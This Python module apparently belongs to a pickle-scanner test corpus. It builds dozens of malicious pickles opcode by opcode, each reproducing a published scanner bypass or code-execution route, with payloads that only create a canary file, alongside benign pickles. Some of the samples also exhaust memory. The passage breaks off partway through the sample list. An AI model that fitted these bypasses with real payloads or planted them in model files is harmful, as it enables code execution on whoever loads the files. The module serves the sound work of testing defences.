"""Raw pickle samples: published scanner bypasses written opcode by opcode, and benign pickles.

Every malicious sample is assembled here from opcode bytes (nothing is produced by pickling a
live object whose ``__reduce__`` could run), and carries a payload that would only create the
canary file if the pickle were ever loaded: a ``touch CANARY`` shell command, a line of
Python that opens the canary for writing, or a library call whose side effect writes it.
Samples that reproduce a published bypass cite it (advisory, CVE, issue or paper); the others
say what they test.

Samples in :data:`LIVE` are *working* exploits on CPython 3.11 on Linux: loading them with
``pickle.load`` (called until the end of the file, as loaders of multi-pickle formats do)
creates the canary. ``test_pickle_bypasses.py`` checks that in a subprocess, so that no
sample here is a straw man that a real unpickler would reject before its payload runs; the
others are listed in :data:`SCAN_ONLY` with the reason.

What the real unpickler accepts (CPython 3.11), which decided what is and is not a sample:

- Module and attribute names from ``GLOBAL``/``INST`` are used byte for byte after UTF-8
  decoding: ``"os "``, ``"os\\r"`` or a confusable such as a full-width ``ｓystem`` raise
  ``ModuleNotFoundError``/``AttributeError`` (``getattr`` does not NFKC-normalise), so
  whitespace and Unicode look-alikes are *not* bypasses of a scanner that resolves names the
  way the unpickler does, and are not samples. Non-ASCII names make ``pickletools`` (and so
  phalanx) report a malformed stream.
- The unpickler is laxer than ``pickletools`` in one place that matters: ``INT`` arguments are
  parsed with ``int(x, 0)``, so ``I0x1`` loads while ``pickletools`` rejects it; see
  ``pickle-int-base16-differential``.
- The unpickler needs no ``PROTO`` header and accepts any opcode whatever the declared
  protocol, so a stream may start with ``FRAME`` or ``SHORT_BINUNICODE`` (see
  ``pickle-headerless-*``), or with a bare ``STACK_GLOBAL`` on ``PUT``/``GET`` operands.
- Dotted names (``"Profile.run"``) resolve through attributes only when the stream declared
  protocol 4 or higher; ``__builtin__``, ``copy_reg``, ``commands``, ``cPickle``... are renamed
  (``_compat_pickle``) only below protocol 3.

Example:
    >>> from samples.pickles import LIVE, SAMPLES  # doctest: +SKIP
    >>> sorted(s.name for s in SAMPLES if s.malicious)[:2]  # doctest: +SKIP
    ['pickle-asyncio-subprocess-transport', 'pickle-attrgetter-import']
    >>> "pickle-build-setstate-injection" in LIVE  # doctest: +SKIP
    True
"""

from __future__ import annotations

import pickle
import shlex
import struct
from collections.abc import Callable
from pathlib import Path

from corpus import Sample

__all__ = ["LIVE", "SAMPLES", "SCAN_ONLY"]

# --------------------------------------------------------------------------------------------
# Writing opcodes


def _u(text: str) -> bytes:
    """``SHORT_BINUNICODE`` or ``BINUNICODE`` (protocol 4 strings)."""
    data = text.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def _b(data: bytes) -> bytes:
    """``SHORT_BINBYTES`` or ``BINBYTES`` (protocol 3+)."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def _v(text: str) -> bytes:
    """Protocol 0 ``UNICODE``: raw-unicode-escape, with the characters that end a line escaped."""
    for char in ("\\", "\0", "\n", "\r", "\x1a"):
        text = text.replace(char, f"\\u{ord(char):04x}")
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def _g(module: str, name: str) -> bytes:
    """``GLOBAL``: two newline-terminated names (protocols 0 to 3)."""
    return b"c" + module.encode("ascii") + b"\n" + name.encode("ascii") + b"\n"


def _sg(module: str, name: str) -> bytes:
    """``STACK_GLOBAL`` of two constant strings (protocol 4+)."""
    return _u(module) + _u(name) + b"\x93"


def _frame(body: bytes) -> bytes:
    """``PROTO 4`` and one ``FRAME`` around ``body``, as ``pickle.dumps`` writes them."""
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, STOP, POP, EMPTY_TUPLE = b"R", b"b", b".", b"0", b")"
P2, P4 = b"\x80\x02", b"\x80\x04"


def _tuple(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def _list(*items: bytes) -> bytes:
    """``EMPTY_LIST``, then ``APPENDS`` of the items."""
    return b"]" + MARK + b"".join(items) + b"e"


# --------------------------------------------------------------------------------------------
# Payloads: each only creates the canary


def _cmd(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def _code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _call4(module: str, name: str, *args: bytes) -> bytes:
    """A protocol 4 pickle that calls ``module.name(*args)``."""
    return P4 + _sg(module, name) + _tuple(*args) + REDUCE + STOP


# --------------------------------------------------------------------------------------------
# os.system through every import opcode and protocol


def _os_system_proto0(c: Path) -> bytes:
    return _g("os", "system") + MARK + _v(_cmd(c)) + TUPLE + REDUCE + STOP


def _os_system_proto2(c: Path) -> bytes:
    # What pickle.dumps(protocol=2) writes for a __reduce__ returning (os.system, (cmd,)).
    return (
        P2 + _g("posix", "system") + b"q\x00" + b"X" + struct.pack("<I", len(_cmd(c)))
        + _cmd(c).encode() + b"q\x01" + TUPLE1 + b"q\x02" + REDUCE + b"q\x03" + STOP
    )


def _os_system_proto4(c: Path) -> bytes:
    body = (
        _u("os") + b"\x94" + _u("system") + b"\x94" + b"\x93\x94" + _u(_cmd(c)) + b"\x94"
        + TUPLE1 + b"\x94" + REDUCE + b"\x94" + STOP
    )
    return _frame(body)


def _memo_binput_memoize(c: Path) -> bytes:
    # BINPUT puts the dangerous names at memo 0 and 1; MEMOIZE then appends decoys, so a
    # scanner that numbers the memo by MEMOIZE alone believes memo 0/1 hold torch._utils.
    return (
        P4
        + _u("os") + b"q\x00" + _u("system") + b"q\x01"
        + _u("torch._utils") + b"\x94" + _u("_rebuild_tensor_v2") + b"\x94"
        + POP + POP + POP + POP
        + b"h\x00" + b"h\x01" + b"\x93"
        + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    )


def _memo_out_of_order(c: Path) -> bytes:
    # Protocol 0 strings stored at memo keys 2 and 3, decoys at 0 and 1, read back with GET
    # before STACK_GLOBAL; no PROTO opcode at all (the unpickler does not require one).
    return (
        b"Vos\np2\n0" + b"Vsystem\np3\n0" + b"Vtorch\np0\n0" + b"VLongStorage\np1\n0"
        + b"g2\ng3\n\x93" + MARK + _v(_cmd(c)) + TUPLE + REDUCE + STOP
    )


def _stack_global_string_operands(c: Path) -> bytes:
    # STACK_GLOBAL operands pushed with the protocol 0 STRING opcode, not a unicode opcode.
    return b"S'os'\nS'system'\n\x93" + b"S" + repr(_cmd(c)).encode() + b"\n" + TUPLE1 + REDUCE + STOP


def _inst(c: Path) -> bytes:
    return MARK + _v(_cmd(c)) + b"ios\nsystem\n" + STOP


def _obj(c: Path) -> bytes:
    return MARK + _g("os", "system") + _v(_cmd(c)) + b"o" + STOP


def _newobj_partial(c: Path) -> bytes:
    # NEWOBJ builds functools.partial(os.system, cmd) without calling it; the REDUCE that
    # follows calls the partial object, not an import.
    return (
        P2 + _g("functools", "partial") + MARK + _g("os", "system") + _v(_cmd(c)) + TUPLE
        + b"\x81" + EMPTY_TUPLE + REDUCE + STOP
    )


def _newobj_ex_check_output(c: Path) -> bytes:
    # NEWOBJ_EX with keyword arguments: partial(subprocess.check_output, cmd, shell=True).
    return (
        P4 + _sg("functools", "partial")
        + _tuple(_sg("subprocess", "check_output"), _u(_cmd(c)))
        + b"}" + _u("shell") + b"\x88" + b"s"
        + b"\x92" + EMPTY_TUPLE + REDUCE + STOP
    )


# --------------------------------------------------------------------------------------------
# builtins: eval, exec, compile, __import__, getattr


def _eval(c: Path) -> bytes:
    return _call4("builtins", "eval", _u(f"__import__('os').system({_cmd(c)!r})"))


def _exec_proto3(c: Path) -> bytes:
    code = _code(c).encode()
    return (
        b"\x80\x03" + _g("builtins", "exec") + b"X" + struct.pack("<I", len(code)) + code
        + TUPLE1 + REDUCE + STOP
    )


def _compile_exec(c: Path) -> bytes:
    # exec(compile(src, '<model>', 'exec')): the code object is a computed argument.
    return (
        P4 + _sg("builtins", "exec")
        + _sg("builtins", "compile") + _tuple(_u(_code(c)), _u("<model>"), _u("exec")) + REDUCE
        + TUPLE1 + REDUCE + STOP
    )


def _getattr_import(c: Path) -> bytes:
    # getattr(__import__('os'), 'system')(cmd): the final REDUCE calls a computed object.
    return (
        P4 + _sg("builtins", "getattr")
        + _sg("builtins", "__import__") + _u("os") + TUPLE1 + REDUCE
        + _u("system") + TUPLE2 + REDUCE
        + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    )


def _builtin_py2_eval(c: Path) -> bytes:
    # Python 2 module name, renamed to builtins by _compat_pickle below protocol 3.
    return P2 + _g("__builtin__", "eval") + _v(f"__import__('os').system({_cmd(c)!r})") + TUPLE1 + REDUCE + STOP


def _sour_pickle_chain(c: Path) -> bytes:
    # Slaviero's chain: g = globals(); code = compile(src, '', 'exec'); eval(code, g).
    return (
        b"c__builtin__\nglobals\n(tRp100\n0"
        + b"c__builtin__\ncompile\n(" + _v(_code(c)) + b"V\nVexec\ntRp101\n0"
        + b"c__builtin__\neval\n(g101\ng100\ntR" + STOP
    )


def _commands_getoutput(c: Path) -> bytes:
    # 'commands' is renamed to 'subprocess' below protocol 3: subprocess.getoutput(cmd).
    return P2 + _g("commands", "getoutput") + _v(_cmd(c)) + TUPLE1 + REDUCE + STOP


def _posix_system(c: Path) -> bytes:
    return _g("posix", "system") + MARK + _v(_cmd(c)) + TUPLE + REDUCE + STOP


# --------------------------------------------------------------------------------------------
# Attribute walkers and name resolvers


def _attrgetter(c: Path) -> bytes:
    # operator.attrgetter('system')(__import__('os'))(cmd)
    return (
        P4 + _sg("operator", "attrgetter") + _u("system") + TUPLE1 + REDUCE
        + _sg("builtins", "__import__") + _u("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE
        + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    )


def _private_operator(c: Path) -> bytes:
    # _operator.attrgetter, the C module behind operator, reached without importing operator.
    return (
        P4 + _sg("_operator", "attrgetter") + _u("system") + TUPLE1 + REDUCE
        + _sg("importlib", "import_module") + _u("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE
        + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    )


def _methodcaller_locate(c: Path) -> bytes:
    # operator.methodcaller('system', cmd)(pydoc.locate('os'))
    return (
        P4 + _sg("operator", "methodcaller") + _tuple(_u("system"), _u(_cmd(c))) + REDUCE
        + _sg("pydoc", "locate") + _u("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP
    )


def _resolve_name(c: Path) -> bytes:
    # pkgutil.resolve_name('os:system') returns os.system itself.
    return (
        P4 + _sg("pkgutil", "resolve_name") + _u("os:system") + TUPLE1 + REDUCE
        + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    )


def _entry_point_load(c: Path) -> bytes:
    # EntryPoint.load(EntryPoint('x', 'os:system', 'g')): the plug-in machinery packaging
    # tools use (setuptools, pip) resolves any "module:attribute" string.
    return (
        P4 + _sg("importlib.metadata", "EntryPoint.load")
        + _sg("importlib.metadata", "EntryPoint") + _tuple(_u("x"), _u("os:system"), _u("g"))
        + REDUCE + TUPLE1 + REDUCE + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    )


def _dotted_through_module(c: Path) -> bytes:
    # Protocol 4 resolves "os.system" as getattr(getattr(uuid, 'os'), 'system'): an
    # allowlisted module is only the first step of the attribute path.
    return _call4("uuid", "os.system", _u(_cmd(c)))


def _dunder_globals_walk(c: Path) -> bytes:
    # uuid.UUID.__init__.__globals__['__builtins__']['exec'](code), through dict.get.
    return (
        P4 + _sg("builtins", "dict.get") + b"\x94"
        + _sg("builtins", "dict.get") + _sg("uuid", "UUID.__init__.__globals__")
        + _u("__builtins__") + TUPLE2 + REDUCE
        + _u("exec") + TUPLE2 + REDUCE
        + _u(_code(c)) + TUPLE1 + REDUCE + STOP
    )


def _partial_reduce(c: Path) -> bytes:
    return (
        P4 + _sg("functools", "partial") + _tuple(_sg("os", "system"), _u(_cmd(c))) + REDUCE
        + EMPTY_TUPLE + REDUCE + STOP
    )


def _result_of_allowed_call(c: Path) -> bytes:
    # copyreg.__newobj__ is on every allowlist (protocol 2 writes it); here it builds a
    # functools.partial, and the next REDUCE calls that result.
    return (
        P2 + _g("copyreg", "__newobj__")
        + MARK + _g("functools", "partial") + _g("posix", "system") + _v(_cmd(c)) + TUPLE
        + REDUCE + EMPTY_TUPLE + REDUCE + STOP
    )


# --------------------------------------------------------------------------------------------
# Nested pickles and loaders


def _nested_cpickle_codecs(c: Path) -> bytes:
    # cPickle.loads(_codecs.encode(<pickle as a latin-1 str>, 'latin1')), protocol 0.
    inner = _os_system_proto0(c).decode("latin-1")
    return (
        _g("cPickle", "loads") + MARK + _g("_codecs", "encode") + MARK + _v(inner) + b"Vlatin1\n"
        + TUPLE + REDUCE + TUPLE + REDUCE + STOP
    )


def _nested_private_pickle(c: Path) -> bytes:
    return _call4("_pickle", "loads", _b(_os_system_proto4(c)))


def _nested_numpy_load(c: Path) -> bytes:
    # numpy.load(io.BytesIO(<pickle>), None, True): allow_pickle=True unpickles the buffer.
    return (
        P4 + _sg("numpy", "load")
        + _tuple(_sg("io", "BytesIO") + _b(_os_system_proto4(c)) + TUPLE1 + REDUCE,
                 b"N", b"\x88")
        + REDUCE + STOP
    )


def _torch_load_partial(c: Path) -> bytes:
    # partial(torch.load, 'other.bin', weights_only=False)(): the file the loader opens is
    # not in the scanned file at all.
    return (
        P4 + _sg("functools", "partial") + _tuple(_sg("torch", "load"), _u("other.bin"))
        + b"}" + _u("weights_only") + b"\x89" + b"s" + b"\x92" + EMPTY_TUPLE + REDUCE + STOP
    )


# --------------------------------------------------------------------------------------------
# Process, code and file primitives beyond os.system (published deny-list misses)


def _torch_layer_constructor(c: Path) -> bytes:
    # torch.nn.modules.linear.Linear(100000, 100000) through REDUCE: its __init__ allocates
    # and initialises a 100000 x 100000 float32 weight. BININT for each size.
    size = b"J" + (100_000).to_bytes(4, "little")
    return P2 + _g("torch.nn.modules.linear", "Linear") + size + size + b"\x86" + REDUCE + STOP


def _bytearray_size(c: Path) -> bytes:
    # bytearray(2**34): 16 bytes of pickle that make the loader allocate and zero 16 GiB.
    size = b"\x8a\x05" + (1 << 34).to_bytes(5, "little")  # LONG1
    return P2 + _g("__builtin__", "bytearray") + size + b"\x85" + REDUCE + STOP


def _popen(c: Path) -> bytes:
    return P2 + _g("subprocess", "Popen") + MARK + _list(_v("sh"), _v("-c"), _v(_cmd(c))) + TUPLE + REDUCE + STOP


def _check_output(c: Path) -> bytes:
    return _call4("subprocess", "check_output", _list(_u("touch"), _u(str(c))))


def _run_code(c: Path) -> bytes:
    return _call4("runpy", "_run_code", _u(_code(c)), b"}")


def _pty_spawn(c: Path) -> bytes:
    return _call4("pty", "spawn", _list(_u("sh"), _u("-c"), _u(_cmd(c))))


def _interactive_interpreter(c: Path) -> bytes:
    # InteractiveInterpreter.runcode(InteractiveInterpreter(), code)
    return _call4("code", "InteractiveInterpreter.runcode",
                  _sg("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE, _u(_code(c)))


def _bdb_run(c: Path) -> bytes:
    return _call4("bdb", "Bdb.run", _sg("bdb", "Bdb") + EMPTY_TUPLE + REDUCE, _u(_code(c)))


def _profile_run(c: Path) -> bytes:
    return _call4("profile", "Profile.run", _sg("profile", "Profile") + EMPTY_TUPLE + REDUCE,
                  _u(_code(c)))


def _cprofile_run(c: Path) -> bytes:
    return _call4("cProfile", "run", _u(_code(c)))


def _trace_run(c: Path) -> bytes:
    return _call4("trace", "Trace.run", _sg("trace", "Trace") + EMPTY_TUPLE + REDUCE, _u(_code(c)))


def _timeit(c: Path) -> bytes:
    # timeit.timeit(stmt='pass', setup=code): the setup string runs once.
    return _call4("timeit", "timeit", _u("pass"), _u(_code(c)))


def _numpy_runstring(c: Path) -> bytes:
    return _call4("numpy.testing._private.utils", "runstring", _u(_code(c)), b"}")


def _idlelib_get_entity(c: Path) -> bytes:
    return _call4("idlelib.calltip", "get_entity", _u(f"__import__('os').system({_cmd(c)!r})"))


def _lib2to3_make_label(c: Path) -> bytes:
    # The advisory's call shape; on CPython 3.11 make_label touches c.labels first, so this
    # one is a scanner test only (not in LIVE).
    return _call4("lib2to3.pgen2.pgen", "ParserGenerator.make_label", b"N", b"}",
                  _u('""+' + f"__import__('os').system({_cmd(c)!r})"))


def _asyncio_subprocess_transport(c: Path) -> bytes:
    # A submodule of a denied package: scanners matching the module name exactly miss it.
    return _call4("asyncio.unix_events", "_UnixSubprocessTransport._start", b"}", _u(_cmd(c)),
                  b"\x88", b"N", b"N", b"N", b"K\x00")


def _torch_config_module(c: Path) -> bytes:
    return _call4("torch.utils._config_module", "ConfigModule.load_config", b"}",
                  _b(_os_system_proto4(c)))


def _uuid_command_stdout(c: Path) -> bytes:
    return _call4("uuid", "_get_command_stdout", _u("touch"), _u(str(c)))


def _pip_main(c: Path) -> bytes:
    # pip.main(['freeze', '--log', CANARY]): pip runs with attacker arguments (an install
    # from an attacker index in the wild); --log makes it write the canary, offline.
    return _call4("pip", "main", _list(_u("freeze"), _u("--log"), _u(str(c))))


def _venv_create(c: Path) -> bytes:
    return _call4("venv", "create", _u(str(c)))


def _distutils_write_file(c: Path) -> bytes:
    return _call4("distutils.file_util", "write_file", _u(str(c)), _list(_u("pwned")))


def _ctypes_cdll(c: Path) -> bytes:
    # getattr(ctypes.CDLL(None), 'system')(cmd): libc's system() through the FFI.
    return (
        P4 + _sg("builtins", "getattr") + _sg("ctypes", "CDLL") + b"N" + TUPLE1 + REDUCE
        + _u("system") + TUPLE2 + REDUCE + _b(_cmd(c).encode()) + TUPLE1 + REDUCE + STOP
    )


def _fileio(c: Path) -> bytes:
    return _call4("_io", "FileIO", _u(str(c)), _u("w"))


def _builtins_open(c: Path) -> bytes:
    return _call4("builtins", "open", _u(str(c)), _u("w"))


def _shutil_copyfile(c: Path) -> bytes:
    return _call4("shutil", "copyfile", _u("/dev/null"), _u(str(c)))


def _webbrowser_open(c: Path) -> bytes:
    return _call4("webbrowser", "open", _u(c.as_uri() if c.is_absolute() else str(c)))


def _logging_dictconfig(c: Path) -> bytes:
    # logging.config.dictConfig with a FileHandler: configuring logging creates the file.
    handler = (
        b"}" + MARK + _u("class") + _u("logging.FileHandler") + _u("filename") + _u(str(c)) + b"u"
    )
    config = (
        b"}" + MARK + _u("version") + b"K\x01"
        + _u("handlers") + b"}" + _u("h") + handler + b"s"
        + b"u"
    )
    return _call4("logging.config", "dictConfig", config)


def _logging_filehandler(c: Path) -> bytes:
    # Not on any deny list: an unknown callable, called.
    return _call4("logging", "FileHandler", _u(str(c)))


# --------------------------------------------------------------------------------------------
# State, memo, extension registry and stream-structure tricks


def _build_setstate(c: Path) -> bytes:
    # No REDUCE at all: BUILD stores os.system as the instance's __setstate__ (a Counter has
    # an instance __dict__ and no __setstate__ of its own), and the second BUILD calls it.
    return (
        P4 + _sg("collections", "Counter") + EMPTY_TUPLE + b"\x81"
        + b"}" + _u("__setstate__") + _sg("os", "system") + b"s" + BUILD
        + _u(_cmd(c)) + BUILD + STOP
    )


def _build_patches_global(c: Path) -> bytes:
    # BUILD with slot state on a class does setattr on the class itself: collections.Counter.a
    # = 'os', .b = 'system'; the dotted GLOBALs then read those strings back as the operands of
    # STACK_GLOBAL, so no constant 'os'/'system' ever reaches the import.
    return (
        P4 + _g("collections", "Counter")
        + b"N}" + MARK + _u("a") + _u("os") + _u("b") + _u("system") + b"u" + TUPLE2 + BUILD + POP
        + _g("collections", "Counter.a") + _g("collections", "Counter.b") + b"\x93"
        + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    )


def _setitem_patches_builtins(c: Path) -> bytes:
    # SETITEM into builtins.__dict__ plants os.system under an innocent name; the GLOBAL
    # builtins._loader that follows imports it from there.
    return (
        _g("builtins", "__dict__") + _v("_loader") + _g("posix", "system") + b"s" + POP
        + _g("builtins", "_loader") + MARK + _v(_cmd(c)) + TUPLE + REDUCE + STOP
    )


def _ext_registered_in_stream(c: Path) -> bytes:
    # copyreg.add_extension('os', 'system', 241), then EXT1 241 imports os.system by number.
    return (
        P2 + _g("copyreg", "add_extension") + MARK + _v("os") + _v("system") + b"K\xf1" + TUPLE
        + REDUCE + POP + b"\x82\xf1" + MARK + _v(_cmd(c)) + TUPLE + REDUCE + STOP
    )


def _ext_only(c: Path) -> bytes:
    # EXT2: the import is whatever the loading process registered under code 0x1234.
    return P2 + b"\x83\x34\x12" + MARK + _v(_cmd(c)) + TUPLE + REDUCE + STOP


def _concatenated(c: Path) -> bytes:
    benign = pickle.dumps({"weights": [0.5, 0.25], "epoch": 3}, protocol=4)
    return benign + _os_system_proto4(c)


def _frame_past_stop(c: Path) -> bytes:
    # The first pickle's FRAME declares more bytes than run to its STOP. Read on from the
    # STOP, the second pickle pushes one string; the unpickler reads the frame whole, so a
    # second load() starts where the frame ends: inside that string, which is the payload.
    payload = _os_system_proto0(c)
    assert len(payload) < 256
    hidden = b"\x80\x04\x8c" + bytes([len(payload)])  # PROTO 4, SHORT_BINUNICODE header
    body = b"}" + STOP + hidden
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + payload + STOP


def _popped_decoy(c: Path) -> bytes:
    # A string holding a complete benign pickle (STOP included) is pushed and popped before
    # the payload: text and regex scanners read the decoy, the unpickler discards it.
    decoy = pickle.dumps(["layer1", "layer2"], protocol=0).decode("ascii")
    return _v(decoy) + POP + _os_system_proto0(c)


def _eop_memo_miss(c: Path) -> bytes:
    # Exception-oriented programming: the payload runs, then a BINGET of a memo key that was
    # never stored makes scanners that replay the memo crash; the loader's exception comes too
    # late to matter.
    return (
        P4 + _g("os", "system") + _u(_cmd(c)) + TUPLE1 + REDUCE + POP
        + _u("os") + b"\x94" + b"h\x03" + b"h\x00" + b"\x93" + b"K\x42" + STOP
    )


def _eop_type_confusion(c: Path) -> bytes:
    # As above, with STACK_GLOBAL fed an int from the memo instead of a missing key.
    return (
        P4 + _g("os", "system") + _u(_cmd(c)) + TUPLE1 + REDUCE + POP
        + b"J\x2a\x00\x00\x00\x94" + _u("os") + b"\x94" + b"h\x00" + b"h\x01" + b"\x93" + STOP
    )


def _broken_after_payload(c: Path) -> bytes:
    # nullifAI: the payload sits at the start of the stream, which then breaks off (a truncated
    # opcode, no STOP). torch.load/pickle.load run the payload before failing.
    return P2 + _g("posix", "system") + _v(_cmd(c)) + TUPLE1 + REDUCE + b"X\xff\xff\x00\x00junk"


def _broken_after_payload_proto0(c: Path) -> bytes:
    # The same without a PROTO header: nothing but the opcodes says this is a pickle.
    return _os_system_proto0(c)[:-1] + b"X\xff\xff\x00\x00junk"


def _int_base16(c: Path) -> bytes:
    # The unpickler parses INT with int(x, 0) and accepts I0x1; pickletools (and every scanner
    # built on it) rejects the line and stops before the payload that follows.
    return P2 + b"I0x1\n" + POP + _os_system_proto0(c)


def _int_base16_proto0(c: Path) -> bytes:
    return b"I0x1\n" + POP + _os_system_proto0(c)


def _headerless_unicode(c: Path) -> bytes:
    # Protocol 4 opcodes with no PROTO opcode: the unpickler accepts any opcode whatever the
    # declared protocol, so the stream may start with SHORT_BINUNICODE.
    return _sg("os", "system") + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP


def _headerless_frame(c: Path) -> bytes:
    # A FRAME opcode first, no PROTO: the unpickler reads the frame and runs what is in it.
    body = _sg("os", "system") + _u(_cmd(c)) + TUPLE1 + REDUCE + STOP
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _nonstandard_extension(c: Path) -> bytes:
    return _os_system_proto4(c)


# --------------------------------------------------------------------------------------------
# Benign pickles, written by pickle.dumps from plain data


def _primitives() -> dict[str, object]:
    return {
        "ints": [0, 1, -1, 255, 65535, 2**31 - 1, -(2**31), 2**64, -(2**100)],
        "floats": [0.0, -1.5, 3.141592653589793, float("inf")],
        "text": ["", "ascii", "ünïcødé ✓", "line\nbreak", "x" * 300],
        "bytes": [b"", b"\x00\x01\xff", bytes(range(256)) * 2],
        "bytearray": bytearray(b"buffer"),
        "flags": (True, False, None),
        "set": {1, 2, 3},
        "frozenset": frozenset({"a", "b"}),
        "nested": {"a": [1, (2, 3), {"b": None}], "t": ()},
        "complex": complex(1, -2),
        "range": range(0, 10, 2),
        "slice": slice(1, 5, 2),
    }


def _benign(protocol: int) -> Callable[[Path], bytes]:
    def data(c: Path) -> bytes:
        return pickle.dumps(_primitives(), protocol=protocol)

    return data


def _benign_stdlib(c: Path) -> bytes:
    import collections
    import datetime
    import decimal
    import fractions
    import uuid

    value = {
        "ordered": collections.OrderedDict([("b", 2), ("a", 1)]),
        "counter": collections.Counter("abracadabra"),
        "deque": collections.deque([1, 2, 3], maxlen=5),
        "default": collections.defaultdict(list, {"k": [1]}),
        "when": datetime.datetime(2024, 5, 1, 12, 30, tzinfo=datetime.timezone.utc),
        "day": datetime.date(2024, 5, 1),
        "time": datetime.time(23, 59, 59),
        "delta": datetime.timedelta(days=1, seconds=5),
        "tz": datetime.timezone(datetime.timedelta(hours=2)),
        "decimal": decimal.Decimal("1.10"),
        "fraction": fractions.Fraction(1, 3),
        "id": uuid.UUID("12345678-1234-5678-1234-567812345678"),
    }
    return pickle.dumps(value, protocol=2)


def _benign_stdlib_proto0(c: Path) -> bytes:
    import collections
    import datetime

    value = [collections.OrderedDict(a=1), datetime.datetime(2020, 1, 1), datetime.date(2021, 2, 3)]
    return pickle.dumps(value, protocol=0)


def _benign_cyclic(c: Path) -> bytes:
    cyclic: list[object] = [1, 2]
    cyclic.append(cyclic)
    shared = {"shared": [1, 2, 3]}
    return pickle.dumps({"cycle": cyclic, "a": shared, "b": shared}, protocol=4)


def _benign_deep(c: Path) -> bytes:
    value: object = "leaf"
    for _ in range(200):
        value = [value]
    return pickle.dumps(value, protocol=2)


def _benign_concatenated(c: Path) -> bytes:
    # Several pickles in a row, as torch.save's legacy format and some loggers write them.
    return b"".join(pickle.dumps({"step": i, "loss": 1.0 / (i + 1)}, protocol=2) for i in range(3))


def _benign_proto5_buffer(c: Path) -> bytes:
    return pickle.dumps([pickle.PickleBuffer(bytearray(b"weights" * 64)), b"x"], protocol=5)


def _benign_numpy(protocol: int) -> Callable[[Path], bytes]:
    def data(c: Path) -> bytes:
        import numpy as np

        value = {
            "w": np.arange(24, dtype=np.float32).reshape(2, 3, 4),
            "ids": np.array([1, 2, 3], dtype=np.int64),
            "mask": np.array([True, False]),
            "rec": np.zeros(2, dtype=[("x", "<f8"), ("y", "<i4")]),
            "scalar": np.float64(0.5),
            "fortran": np.asfortranarray(np.eye(3)),
        }
        return pickle.dumps(value, protocol=protocol)

    return data


def _benign_sklearn_logreg(c: Path) -> bytes:
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    return pickle.dumps(LogisticRegression().fit(x, y), protocol=pickle.DEFAULT_PROTOCOL)


def _benign_sklearn_pipeline(c: Path) -> bytes:
    import numpy as np
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(1)
    x = rng.normal(size=(60, 3))
    y = (x[:, 0] > 0).astype(int)
    model = make_pipeline(StandardScaler(), DecisionTreeClassifier(max_depth=3, random_state=0))
    return pickle.dumps(model.fit(x, y), protocol=2)


# --------------------------------------------------------------------------------------------
# The sample list


def _writer(data: Callable[[Path], bytes], filename: str) -> Callable[[Path, Path], Path]:
    def build(out_dir: Path, canary: Path) -> Path:
        out_dir.mkdir(parents=True, exist_ok=True)
        target = out_dir / filename
        target.write_bytes(data(canary))
        return target

    return build


def _bad(
    name: str,
    data: Callable[[Path], bytes],
    technique: str,
    source: str = "",
    *,
    severity: str = "critical",
    rule: str | None = None,
    filename: str = "model.pkl",
) -> Sample:
    return Sample(
        name=name, format="pickle", malicious=True, build=_writer(data, filename),
        technique=technique, source=source, min_severity=severity, rule=rule,
    )


def _good(name: str, data: Callable[[Path], bytes], technique: str,
          needs: tuple[str, ...] = ()) -> Sample:
    return Sample(name=name, format="pickle", malicious=False, build=_writer(data, "model.pkl"),
                  technique=technique, needs=needs)


_PS = "https://github.com/mmaitre314/picklescan"
_PS_ADV = f"{_PS}/security/advisories"
_PS_TESTS = f"{_PS} tests/init_data_files.py"
_SOUR = "https://sensepost.com/cms/resources/conferences/2011/sour_pickles/BH_US_11_Slaviero_Sour_Pickles.pdf"
_DILL = "https://blog.trailofbits.com/2021/03/15/never-a-dill-moment-exploiting-machine-learning-pickle-files/"
_EOP = "https://arxiv.org/abs/2508.19774 (Liu et al. 2025, exception-oriented programming)"

SAMPLES: list[Sample] = [
    # -- os.system through each import opcode ---------------------------------------------
    _bad("pickle-os-system-proto0", _os_system_proto0,
         "os.system through GLOBAL + REDUCE, protocol 0 text opcodes", _DILL,
         rule="process-execution"),
    _bad("pickle-os-system-proto2", _os_system_proto2,
         "posix.system through GLOBAL + BINPUT, protocol 2 (what pickle.dumps writes on Linux)",
         "https://github.com/trailofbits/fickling/pull/59 (posix and nt)",
         rule="process-execution"),
    _bad("pickle-os-system-proto4", _os_system_proto4,
         "os.system through STACK_GLOBAL with MEMOIZE inside a FRAME, protocol 4",
         _DILL, rule="process-execution"),
    _bad("pickle-memo-binput-memoize", _memo_binput_memoize,
         "STACK_GLOBAL operands from BINGET after mixing BINPUT and MEMOIZE, so memo numbering "
         "by MEMOIZE alone points at decoys", f"{_PS}/issues/14", rule="process-execution"),
    _bad("pickle-memo-out-of-order", _memo_out_of_order,
         "STACK_GLOBAL operands fetched with GET from out-of-order PUT keys, no PROTO opcode",
